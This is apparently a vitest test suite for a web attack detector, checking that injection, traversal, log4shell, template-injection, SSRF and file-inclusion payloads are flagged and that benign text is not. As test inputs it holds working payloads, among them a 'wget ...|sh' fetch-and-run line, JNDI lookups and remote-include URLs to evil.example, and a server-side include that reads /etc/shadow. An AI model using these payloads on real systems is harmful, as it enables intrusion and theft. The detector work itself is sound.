import { describe, expect, it } from 'vitest';
import { attackHits, describeAttack, splitQuery, type AttackCategory } from '../attacks.js';
import { normalise } from '../decode.js';
import { detectSqli, tokenize } from './sqli.js';
import { detectXss } from './xss.js';
import { detectCodeInjection } from './code.js';
import {
  detectCmdi,
  detectLog4shell,
  detectShellshock,
  detectTraversal,
  detectUrlAbuse,
  isInternalHost,
} from './system.js';

const categories = (target: string, headers?: { ua?: string; referer?: string }) =>
  attackHits(target, '', headers).map((h) => h.category);
const sqli = (v: string) => detectSqli(normalise(v));
const xss = (v: string) => detectXss(normalise(v));
const cmdi = (v: string) => detectCmdi(normalise(v));

describe('the issue examples, end to end (each missed by the old patterns)', () => {
  const cases: [string, AttackCategory][] = [
    ['/load_phplib.php?mss=%c0%2e%c0%2e%c1%8setc%c1%8spasswd', 'traversal'],
    ['/cgi-local/vote.cgi?p=?.%f8%80%80%80%af?.%f8%80%80%80%afetc%f8%80%80%80%afissue', 'traversal'],
    ["/modules/onupdate.php?mydirname=a(){}system('/bin/echo+-en+...')", 'cmdi'],
    ['/main.php?stuff=%22del%20q73888727&rem%20', 'cmdi'],
    ["/main.php?logout='|sleep%207%20", 'cmdi'],
    ["/top.php?stuff='sleep\\x0911\\x09", 'cmdi'],
    ['/cgis/nimages.php?B2=Redirect%20302%20/a&#46;jpg%20http&#58;//victimsite&#46;com/admin&#46;asp', 'rfi'],
  ];
  for (const [target, category] of cases) {
    it(`${category}: ${target}`, () => expect(categories(target)).toContain(category));
  }

  it('a reason names the class, the rule and the decoded fragment', () => {
    const [hit] = attackHits('/load_phplib.php?mss=%c0%2e%c0%2e%c1%8setc%c1%8spasswd');
    expect(describeAttack(hit)).toMatch(/^path traversal \(sensitive file etc.*passwd\): \.\..*etc.*passwd$/);
  });
});

describe('more shapes of real scanner traffic', () => {
  it('reads shells, PHP code, full-width forms, SQL in a path, nibble-encoded percent signs', () => {
    expect(categories('/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir+c:\\')).toEqual(['traversal', 'cmdi']);
    expect(categories('/index.php?x=${@print(md5(acunetix_wvs_security_test))}')).toEqual(['cmdi']);
    expect(categories('/?a=fetch&content=<php>die(@md5(HelloThinkCMF))</php>')).toEqual(['cmdi']);
    expect(categories('/?q=%uff1cscript%uff1ealert(1)%uff1c/script%uff1e')).toEqual(['xss']);
    expect(categories("/product.php/1'%20or%20'1'='1")).toEqual(['sqli']);
    expect(categories('/..%%35%63..%%35%63boot.ini')).toEqual(['traversal']);
    expect(categories("/blog/don't-panic")).toEqual([]);
    expect(categories('/a.php?b=x%0aid')).toEqual(['cmdi']);
    expect(categories('/a.php?q=<%00script>alert(1)</script>')).toEqual(['xss', 'traversal']);
    expect(categories('/a.php?page=php://filter/resource=index.php')).toEqual(['rfi']);
    // A line break in a text area's value, then an ordinary word: no command.
    expect(categories('/contact?msg=hello%0d%0aid+like+to+ask')).toEqual([]);
  });
});

describe('SQL injection by tokens', () => {
  it('reads a value in three contexts: bare, after a single quote, after a double quote', () => {
    expect(
      tokenize("1' or '1'='1", "'")
        .map((t) => t.type)
        .join(''),
    ).toBe('s&sos');
    expect(
      tokenize('1 union all select null', '')
        .map((t) => t.type)
        .join(''),
    ).toBe('1Ukkk'.replace('kkk', 'kEk'));
  });

  it('finds sqlmap-style payloads of every shape', () => {
    for (const v of [
      "1' or '1'='1",
      '1 and 8407=(select count(*) from generate_series(1,5000000))',
      "-7741') where 8271=8271 union all select 8271,8271#",
      '1%"))) and (select * from (select(sleep(5)))gcrr)#',
      "1%';waitfor delay '0:0:5'--",
      '-1432 order by 1#',
      "1') and extractvalue(7982,concat(0x5c,0x7171706a71))",
      "admin'--",
      '1/**/UNION/**/SELECT/**/password/**/FROM/**/users',
      '1 /*!50000union*/ /*!50000select*/ 1,2',
      "1';drop table users--",
      "1' and char(120)||char(106)=",
      '(1589=1589)*1',
    ]) {
      expect(sqli(v), v).toBeDefined();
    }
  });

  it('leaves prose, names, addresses and numbers alone', () => {
    for (const v of [
      "o'neil and smith",
      'rock and roll',
      '3 or 4',
      'select a size',
      'c/ caridad s/n',
      'campello, el',
      "l'hospitalet",
      'tom & jerry',
      '5 in stock',
      "it's 1-2 days",
      'union street 4',
      'a-b',
      'x=1',
    ]) {
      expect(sqli(v), v).toBeUndefined();
    }
  });
});

describe('XSS by HTML tokens', () => {
  it('finds tags, handlers and script URLs however they are written', () => {
    for (const v of [
      '<script>alert(1)</script>',
      '"><img src=x onerror=alert(1)>',
      '<svg/onload=alert(1)>',
      '<IMG SRC="jav&#x09;ascript:alert(1)">',
      '<a href="javascript:alert(1)">x</a>',
      '" onmouseover="alert(1)',
      '<iframe src=http://evil.example/>',
      '<div style="width: expression(alert(1))">',
      'javascript:alert(document.cookie)',
      '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
      '<html><body>',
      `';!--"<crosssitescripting>=&{()}`,
      "'><probe7 id=x>",
    ]) {
      expect(xss(v), v).toBeDefined();
    }
  });

  it('leaves comparisons and e-mail addresses alone', () => {
    for (const v of [
      'a < b',
      '3<4',
      'jo@importadores.es',
      'fish & chips',
      'see: notes',
      'x=1',
      'say "hi" <me',
      '"a" < "b"',
    ])
      expect(xss(v), v).toBeUndefined();
  });
});

describe('command injection', () => {
  it('finds a command after a separator, a quote or a substitution, and code execution calls', () => {
    for (const v of [
      ';id;',
      '|id',
      'a)|/usr/bin/id;',
      '`uname`',
      '$(whoami)',
      '& ping -n 30 127.0.0.1 &',
      '"del q73888727&rem ',
      "'|sleep 7 ",
      "'sleep\\x0911\\x09",
      "a(){}system('/bin/echo')",
      '<!--#exec cmd="/bin/cat /etc/shadow"-->',
      '/bin/ls -al',
      'dir c:/',
      'id|',
      '127.0.0.1;wget http://x/s.sh|sh',
    ]) {
      expect(cmdi(v), v).toBeDefined();
    }
  });

  it('leaves words that are also commands alone', () => {
    for (const v of [
      'more info',
      'find shoes',
      'echo',
      'type 2 diabetes',
      'cat food',
      'rock & roll',
      'ls',
      "o'neil",
      'sleep well',
    ])
      expect(cmdi(v), v).toBeUndefined();
  });
});

describe('path traversal', () => {
  it('finds climbing paths and sensitive files after normalisation', () => {
    for (const v of [
      '../../etc/passwd',
      '..\\..\\boot.ini',
      'c:/windows/win.ini',
      '/0x2e0x2e/0x2e0x2e/etc/hosts',
      '....//....//web-inf/web.xml',
      '%c0%ae%c0%ae/%c0%ae%c0%ae/x',
    ]) {
      expect(detectTraversal(normalise(v), true), v).toBeDefined();
    }
  });

  it('reads a malformed absolute path in a parameter as an attempt on the file system', () => {
    for (const v of ['/////{file}', '/./././x', 'file:/c:/x', `/${'a'.repeat(40)}`])
      expect(detectTraversal(normalise(v), true), v).toBeDefined();
    for (const v of ['/account', '/shop/cart', 'c/ caridad s/n', 'wait... what'])
      expect(detectTraversal(normalise(v), true), v).toBeUndefined();
  });

  it('finds a NUL byte in a path or a parameter, however it is escaped, which normalising would drop', () => {
    for (const t of ['/cart?item=%00%00', '/dl?f=report.pdf%00.png', '/img/x.php%2500.jpg', '/q?v=a\\x00b'])
      expect(
        attackHits(t).map((h) => [h.category, h.rule]),
        t,
      ).toEqual([['traversal', 'NUL byte']]);
    expect(categories('/shop?discount=100%25&code=A00')).toEqual([]);
  });
});

describe('shellshock and log4shell', () => {
  it('finds () { in any header field', () => {
    expect(categories('/', { ua: '() { :; }; /bin/bash -c "id"' })).toEqual(['shellshock']);
    expect(categories('/', { referer: '() {ignored;}; echo x' })).toEqual(['shellshock']);
    expect(detectShellshock('mozilla/5.0 (x11; linux)')).toBeUndefined();
  });

  it('reads a User-Agent as SQL and HTML, as scanners inject there too; a Referer only for lookups', () => {
    expect(categories('/', { ua: "sqlmap/1.5 (http://sqlmap.org)' AND 1234=1234 AND 'abc'='abc" })).toEqual(['sqli']);
    expect(categories('/', { ua: '<script>alert(1)</script>' })).toEqual(['xss']);
    expect(categories('/', { ua: "Mozilla/5.0 (compatible; Bob's Crawler/1.0)" })).toEqual([]);
    expect(categories('/', { referer: "https://shop.example/?q=1' or '1'='1" })).toEqual([]);
  });

  it('finds JNDI lookups, also obfuscated with nested lookups', () => {
    expect(detectLog4shell('${jndi:ldap://evil.example/a}')).toBeDefined();
    expect(detectLog4shell('${${lower:j}ndi:ldap://evil.example/a}')).toBeDefined();
    expect(detectLog4shell('${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}')).toBeDefined();
    expect(detectLog4shell('${${env:none:-j}ndi${env:none:-:}ldap://x/a}')).toBeDefined();
    expect(categories('/', { ua: '${jndi:ldap://x/a}' })).toEqual(['log4shell']);
    expect(categories('/x?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D')).toContain('log4shell');
    expect(categories('/', { ua: '${T(java.lang.Runtime).getRuntime().exec("id")}' })).toEqual(['code']);
    expect(detectLog4shell('${user.home}')).toBeUndefined();
  });
});

describe('code for template and expression engines', () => {
  const code = (v: string) => detectCodeInjection(normalise(v));

  it('finds template probes, sandbox escapes, OGNL and Java EL, and class-loader chains', () => {
    for (const v of [
      '{{7*7}}',
      '${7*7}',
      '#{ 7 * 7 }',
      '<%= 7*7 %>',
      "{{''.__class__.__mro__[1].__subclasses__()}}",
      '{{lipsum.__globals__.os.popen("id").read()}}',
      "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
      '${#context["xwork.MethodAccessor.denyMethodExecution"]=false}',
      '${T(java.lang.Runtime).getRuntime().exec("id")}',
      '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
      'class.module.classLoader.resources.context.parent.pipeline.first.pattern',
      "class['classLoader'].jarPath",
    ]) {
      expect(code(v), v).toBeDefined();
    }
  });

  it('leaves braces, placeholders and words about classes alone', () => {
    for (const v of ['{min}-{max}', '${user.home}', 'first class tickets', 'java tutorial', '{"page":2}', '5*7=35']) {
      expect(code(v), v).toBeUndefined();
    }
  });

  it('reads parameter names, and values written in base64, end to end', () => {
    expect(categories('/?class.module.classLoader.DefaultAssertionStatus=nonsense')).toEqual(['code']);
    expect(categories('/greeting?name=%7B%7B7*7%7D%7D')).toEqual(['code']);
    const [hit] = attackHits('/q?data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==');
    expect(describeAttack(hit)).toBe('XSS (<script> tag, base64): <script>alert(1)</script>');
    expect(categories('/?q=c2VsZWN0IDEgZnJvbSBkdWFsIHVuaW9uIHNlbGVjdCBwYXNzd29yZCBmcm9tIHVzZXJz')).toEqual(['sqli']);
    expect(categories('/?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9&r=aHR0cHM6Ly9leGFtcGxlLmNvbS9wYWdl')).toEqual([]);
  });
});

describe('SSRF and file inclusion', () => {
  it('finds URLs to internal addresses in any notation', () => {
    for (const h of [
      '127.0.0.1',
      '127.1',
      '2130706433',
      '0x7f000001',
      '169.254.169.254',
      '10.1.2.3',
      '192.168.0.1',
      'localhost',
      '::1',
      '0.0.0.0',
      '172.20.1.1',
    ]) {
      expect(isInternalHost(h), h).toBe(true);
    }
    for (const h of ['93.184.216.34', 'example.com', '172.32.0.1', '8.8.8.8']) expect(isInternalHost(h), h).toBe(false);
    expect(detectUrlAbuse('http://169.254.169.254/latest/meta-data/')?.category).toBe('ssrf');
    expect(detectUrlAbuse('gopher://127.0.0.1:6379/_flushall')?.category).toBe('ssrf');
    expect(categories('/fetch?url=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin')).toEqual(['ssrf']);
  });

  it('finds remote and local file inclusion', () => {
    expect(detectUrlAbuse('http://evil.example/shell.txt?')?.category).toBe('rfi');
    expect(detectUrlAbuse('file:///etc/passwd')?.category).toBe('rfi');
    expect(detectUrlAbuse('php://filter/convert.base64-encode/resource=index.php')?.category).toBe('rfi');
    expect(detectUrlAbuse('https://shop.example.com/cart')).toBeUndefined();
  });
});

describe('query splitting', () => {
  it("keeps an HTML character reference's '&' inside its value", () => {
    expect(splitQuery('a=1&b=x&#46;jpg&c=3')).toEqual(['a=1', 'b=x&#46;jpg', 'c=3']);
  });
});
